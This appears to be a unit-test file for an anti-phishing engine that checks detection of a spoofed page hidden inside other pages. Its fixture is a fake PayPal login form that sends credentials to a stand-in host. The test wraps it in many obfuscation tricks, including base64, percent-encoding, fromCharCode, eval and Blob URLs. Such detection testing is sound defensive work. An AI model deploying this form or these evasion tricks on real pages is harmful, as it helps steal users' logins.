// SPDX-License-Identifier: Apache-2.0
// What pages hide inside themselves, judged by the package that the program comes with.
#include <algorithm>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <gtest/gtest.h>

#include "DetectionEngine/engine/ProcessState.h"
#include "DetectionEngine/platform/CodePage.h"
#include "TestPaths.h"
#include "authoring/Sources.h"
#include "judging/Judge.h"
#include "tests/platform/TestFolders.h"

namespace zeph {
namespace {

namespace fs = std::filesystem;

/// The package's sources, as a program loads them.
std::shared_ptr<ConfigurationPair> DefaultPair() {
  std::vector<fs::path> paths;
  for (const auto& entry : fs::directory_iterator(ZEPH_SOURCE_DIR "/package")) {
    if (entry.is_regular_file() && entry.path().extension() != ".md" && entry.path().extension() != ".test") {
      paths.push_back(entry.path());
    }
  }
  std::ranges::sort(paths, {}, [](const fs::path& path) {
    const std::string name = path.filename();
    return std::pair(name == "TrustedDomains.xml" ? 0 : name == "SafeList" ? 1 : 2, name);
  });
  std::vector<SourceFile> files;
  for (const fs::path& path : paths) {
    std::ostringstream text;
    text << std::ifstream(path, std::ios::binary).rdbuf();
    files.push_back({path.string(), text.str()});
  }
  auto pair = std::make_shared<ConfigurationPair>();
  Diagnostics found;
  Compiled compiled = CompileSources(files, false, found, Configuration());
  pair->configuration = std::move(compiled.configuration);
  pair->configuration.IsClient = true;
  pair->indicators = std::move(compiled.rules.rules);
  pair->configuration.BuildIndexes();
  pair->indicators.Prepare();
  return pair;
}

class JudgedInnerPages : public FoldersTest {
 protected:
  static void SetUpTestSuite() { pair_ = DefaultPair(); }
  static void TearDownTestSuite() { pair_.reset(); }
  JudgedInnerPages() { Process().configurationMgr.Publish(pair_); }

  static Judgement Judged(const std::string& page, JudgeOptions options = {}) {
    const Judge judge(std::move(options));
    return judge.OfContent({"<title>Hello</title>\n" + page, "text/html", "page", "http://shop.example.net/index.html"});
  }

  static inline std::shared_ptr<ConfigurationPair> pair_;
};

const std::string kLogin =
    R"(<html><head><title>PayPal: Log in to your account</title></head><body><img src="https://www.paypalobjects.com/logo.png" alt="PayPal"><h1>PayPal</h1><p>Log in to your PayPal account to confirm your identity</p><form action="http://collect.badhost.test/p.php" method="post"><input name="email" type="text"><input type="password" name="pass"><input type="submit" value="Log In"></form><a href="https://www.paypal.com/help">PayPal help</a></body></html>)";

std::string Quoted(std::string_view text) {
  std::string quoted = "'";
  for (const char c : text) quoted.append(c == '\'' || c == '\\' ? "\\" : "").append(1, c);
  return quoted + "'";
}
std::string Value(std::string_view text) {
  std::string value = "\"";
  for (const char c : text) value.append(c == '&' ? "&amp;" : c == '"' ? "&quot;" : std::string(1, c));
  return value + "\"";
}
std::string Percent(std::string_view text) {
  constexpr std::string_view kDigits = "0123456789abcdef";
  std::string escaped;
  for (const unsigned char c : text) escaped.append("%").append(1, kDigits[c >> 4]).append(1, kDigits[c & 15U]);
  return escaped;
}
std::string Base64(std::string_view text) {
  constexpr std::string_view kDigits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string digits;
  for (std::size_t i = 0; i < text.size(); i += 3) {
    std::uint32_t bits = 0;
    for (std::size_t j = 0; j < 3; ++j) bits = bits << 8 | (i + j < text.size() ? static_cast<unsigned char>(text[i + j]) : 0U);
    for (std::size_t j = 0; j < 4; ++j) digits += i + j > text.size() ? '=' : kDigits[bits >> (18 - 6 * j) & 63U];
  }
  return digits;
}
std::string Codes(std::string_view text) {
  std::string codes;
  for (const char c : text) codes.append(codes.empty() ? "" : ",").append(std::to_string(c));
  return codes;
}
std::string Script(const std::string& text) { return "<p>x<script>" + text + "</script>"; }

TEST_F(JudgedInnerPages, AreHeldWhereverTheyHide) {
  const std::string half = kLogin.substr(0, kLogin.size() / 2);
  const std::string rest = kLogin.substr(half.size());
  const std::string written = "document.write(" + Quoted(kLogin) + ")";
  const std::pair<std::string_view, std::string> rows[] = {
      {"frame with srcdoc, line 2", "<iframe srcdoc=" + Value(kLogin) + "></iframe>"},
      {"frame with a data: address, line 2", "<iframe src='data:text/html;base64," + Base64(kLogin) + "'></iframe>"},
      {"frame with a data: address, line 2", "<iframe src='data:text/html;charset=utf-8," + Percent(kLogin) + "'></iframe>"},
      {"frame with a javascript: address, line 2", "<iframe src=" + Value("javascript:" + Quoted(kLogin)) + "></iframe>"},
      {"object with a data: address, line 2", "<object data='data:text/html;base64," + Base64(kLogin) + "'></object>"},
      {"embed with a data: address, line 2", "<embed src='data:text/html," + Percent(kLogin) + "'>"},
      {"refresh with a data: address, line 2", "<meta http-equiv=refresh content='0;url=data:text/html;base64," + Base64(kLogin) + "'>"},
      {"template, line 2", "<template>" + kLogin + "</template>"},
      {"noscript, line 2", "<noscript>" + kLogin + "</noscript>"},
      {"handler onload that writes by document.write, line 2", "<img onload=" + Value(written) + ">"},
      {"script that writes by document.write, line 2", Script(written)},
      {"script that writes by document.write, line 2",
       Script("document.write(" + Quoted(half) + ");\ndocument.writeln(" + Quoted(rest) + ")")},
      {"script that writes by innerHTML, line 2",
       Script("var a = " + Quoted(half) + " + " + Quoted(rest) + "; document.body.innerHTML = a")},
      {"script that writes by outerHTML, line 2",
       Script("document.documentElement.outerHTML = decodeURIComponent('" + Percent(kLogin) + "')")},
      {"script that writes by insertAdjacentHTML, line 2",
       Script("document.body.insertAdjacentHTML('beforeend', `" + kLogin + "`)")},
      {"script that writes by srcdoc, line 2", Script("frames[0].srcdoc = " + Quoted(kLogin))},
      {"script that writes by document.write, line 2", Script("document.write(atob('" + Base64(kLogin) + "'))")},
      {"script that writes by document.write, line 2", Script("document.write(unescape('" + Percent(kLogin) + "'))")},
      {"script that writes by document.write, line 2", Script("document.write(String.fromCharCode(" + Codes(kLogin) + "))")},
      {"script that writes by document.write, line 2",
       Script("function f() { document.write(h) } var h = ''; h += " + Quoted(half) + "; h += " + Quoted(rest) + "; f()")},
      {"script that writes by document.write, line 2", Script("eval(unescape('" + Percent(written) + "'))")},
      {"script that writes by Blob, line 2",
       Script("location = URL.createObjectURL(new Blob([" + Quoted(kLogin) + "], {type: 'text/html'}))")},
      {"frame with srcdoc, line 2 > script that writes by document.write, line 1",
       "<iframe srcdoc=" + Value(Script("document.write(atob('" + Base64(kLogin) + "'))")) + "></iframe>"},
  };
  for (const auto& [where, page] : rows) {
    const Judgement judgement = Judged(page);
    EXPECT_EQ(judgement.verdict, Verdict::kSpoofing) << page;
    EXPECT_EQ(Narrow(judgement.siteName.value_or(u"")), "PayPal") << page;
    ASSERT_TRUE(judgement.worst) << page;
    EXPECT_EQ(judgement.parts[*judgement.worst].where, where);
    EXPECT_EQ(judgement.parts[*judgement.worst].input, "page");
    JudgeOptions exact;
    exact.exact = true;
    exact.url = "http://shop.example.net/index.html";
    const Judgement bare = Judged(page, exact);
    EXPECT_FALSE(IsHeld(bare.verdict)) << page;
    EXPECT_TRUE(bare.parts.empty());
  }
}

TEST_F(JudgedInnerPages, OfHonestPagesAreNotHeld) {
  const std::string pages[] = {
      "<iframe srcdoc=\"<a href='https://ads.example/c?1'><img src='https://ads.example/1.gif'></a>\"></iframe>",
      "<iframe srcdoc=\"<p>Win a PayPal voucher! <a href='https://ads.example/'>More</a>\"></iframe>",
      "<noscript><img height=1 width=1 src='https://www.facebook.com/tr?id=1&ev=PageView&noscript=1'></noscript>",
      "<noscript><iframe src='https://www.googletagmanager.com/ns.html?id=GTM-1' height=0 width=0></iframe></noscript>",
      Script("var h = 'https://ssl.'; document.write(unescape(\"%3Cscript src='\" + h + \"google-analytics.com/ga.js'%3E%3C/script%3E\"))"),
      Script("document.write('<a href=\"https://www.paypal.com/\"><img src=\"/img/paypal.gif\" alt=\"PayPal\"></a>')"),
      Script("document.write('&copy; ' + new Date().getFullYear() + ' Example Shop. All rights reserved.')"),
      "<template><form action=/subscribe><input type=email name=mail><button>Subscribe</button></form></template>",
      "<template><form action=/login method=post><input name=user><input type=password name=p></form></template>",
      "<object data='data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cpath d=%22M0 0%22/%3E%3C/svg%3E'></object>",
      "<iframe src=\"javascript:''\"></iframe><a href='javascript:void(0)'>x</a>",
  };
  for (const std::string& page : pages) {
    const Judgement judgement = Judged(page);
    EXPECT_FALSE(IsHeld(judgement.verdict)) << page;
    EXPECT_FALSE(judgement.worst) << page;
    for (const Judgement& part : judgement.parts) EXPECT_FALSE(IsHeld(part.verdict)) << page;
  }
  // A page at a brand's own address may carry the brand's pages, and a page's base is that of what it carries.
  const Judge judge(JudgeOptions{});
  EXPECT_EQ(judge.OfContent({"<template>" + kLogin + "</template>", "text/html", "", "https://www.paypal.com/"}).verdict,
            Verdict::kTrustworthy);
}

TEST_F(JudgedInnerPages, TellWhatIsNotJudged) {
  std::string nested = "<p><a href=x>x</a>";
  for (int i = 0; i < 6; ++i) nested = "<iframe srcdoc=" + Value(nested) + "></iframe>";
  std::string many;
  for (int i = 0; i < 40; ++i) many += "<noscript><a href=x>x</a></noscript>";
  std::string empty;
  for (int i = 0; i < 300; ++i) empty += "<noscript><p>x</noscript>";
  const std::pair<std::string, std::string_view> rows[] = {
      {nested, "stands in pages within pages, more than 4 deep"},
      {many, "more than 32 pages stand in one"},
      {empty, "more than 256 pages or pieces of pages stand in it"},
  };
  for (const auto& [page, reason] : rows) {
    const Judgement judgement = Judged(page);
    ASSERT_FALSE(judgement.parts.empty());
    EXPECT_EQ(judgement.parts.back().verdict, Verdict::kNotJudged);
    EXPECT_EQ(judgement.parts.back().reason, reason);
    EXPECT_EQ(judgement.verdict, Verdict::kUnclassified);
  }
}

}  // namespace
}  // namespace zeph
